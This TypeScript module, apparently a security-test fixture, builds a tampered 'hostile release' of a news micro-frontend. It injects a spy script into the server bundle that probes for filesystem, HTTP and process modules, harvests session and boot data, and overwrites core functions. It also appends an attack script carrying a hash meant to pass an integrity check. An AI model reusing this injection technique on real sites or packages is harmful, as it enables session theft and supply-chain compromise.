import { attack, type Target } from './hostile-script.ts';
import { type NextRelease, nextRelease, withFile } from './next-release.ts';
import type { OwnSite } from './own-site.ts';

const WORKER = 'static/js/worker.js';

/** The SSR bundle's report about its runtime, rendered as a heading. */
const SPY = `var seen = [], spy = () => {
  var found = ['process', 'Buffer', 'XMLHttpRequest', 'localStorage'].filter((name) => name in globalThis);
  for (var parts of [['f', 's'], ['node:', 'http'], ['child_', 'process']])
    try { require(parts.join('')); found.push(parts.join('')); } catch {}
  var walk = (value, depth) => {
    if (typeof value === 'string') seen.push(value);
    if (typeof value === 'object' && value !== null && depth < 6)
      for (var part of Object.values(value)) walk(part, depth + 1);
  };
  walk(require('shared/api').boot(), 0);
  walk(require('shared/session'), 0);
  try { Array.prototype.map = () => ['altered']; } catch {}
  try { require('react').createElement = () => 'altered'; } catch {}
  return 'Spied: found ' + (found.join() || 'nothing') + '; seen ' + seen.join(' ');
};
`;

const HEADING = '"Latest News"';

/** The live news with a hostile script in the browser entry, and another in the SSR bundle. */
export async function hostileRelease(
  site: OwnSite,
  target: Omit<Target, 'worker'>,
): Promise<NextRelease> {
  const base = await nextRelease(site, 'mf-news', []);
  const text = (file: string): string => base.contents.get(file)?.toString() ?? '';
  const bundle = text('server.cjs');
  if (!bundle.includes(HEADING)) throw new Error(`The SSR bundle does not contain ${HEADING}`);
  const spied = withFile(base, 'server.cjs', SPY + bundle.replaceAll(HEADING, 'spy()'));
  const withWorker = withFile(spied, WORKER, `addEventListener('fetch', () => {});`);
  // The folder's name is a hash that includes this script, so the script reads its own URL.
  const worker = `new URL('${WORKER}', document.currentScript.src).href`;
  // A script is accepted only with its hash in another.
  const hash = withWorker.manifest.files[WORKER];
  const script = `/* ${hash} */;{ const worker = ${worker}; window.loot = (${attack})({ ...${JSON.stringify(target)}, worker }); }`;
  return withFile(withWorker, 'remoteEntry.js', text('remoteEntry.js') + script);
}
